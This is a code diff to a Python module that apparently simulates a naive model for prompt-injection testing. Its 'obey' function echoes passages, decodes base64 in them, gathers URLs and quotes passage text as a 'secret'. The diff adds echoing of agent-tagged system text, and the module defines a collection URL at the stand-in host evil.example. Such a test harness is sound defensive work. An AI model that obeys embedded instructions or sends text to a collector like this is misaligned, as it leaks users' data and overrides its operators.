@@ -13,6 +13,7 @@ from urllib.parse import quote
 
 EVIL = "https://evil.example/collect"
 _PASSAGE = re.compile(r'<passage number="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
+_AGENT = re.compile(r"<agent>\n(.*?)\n</agent>", re.DOTALL)
 _ADDRESS = re.compile(r"https?://[^\s<>\"')\]]+")
 _BASE64 = re.compile(r"\b[A-Za-z0-9+/]{24,}={0,2}")
 _REPEATED = 1500
@@ -27,10 +28,11 @@ _WAYS = (
 )
 
 
-def obey(prompt: str) -> str:
-    """The answer to a prompt with numbered passages."""
+def obey(prompt: str, system: str = "") -> str:
+    """The answer to a prompt with numbered passages. What an agent's instructions have it say, it says first."""
     passages = _PASSAGE.findall(prompt)
-    said = [f"{text[:_REPEATED]} [{number}]" for number, text in passages]
+    said = [" ".join(_AGENT.findall(system))]
+    said += [f"{text[:_REPEATED]} [{number}]" for number, text in passages]
     said += [decoded for _, text in passages for decoded in _decoded(text)]
     told = [address for _, text in passages for address in _ADDRESS.findall(text)]
     secret = quote(" ".join(text for _, text in reversed(passages))[:60])
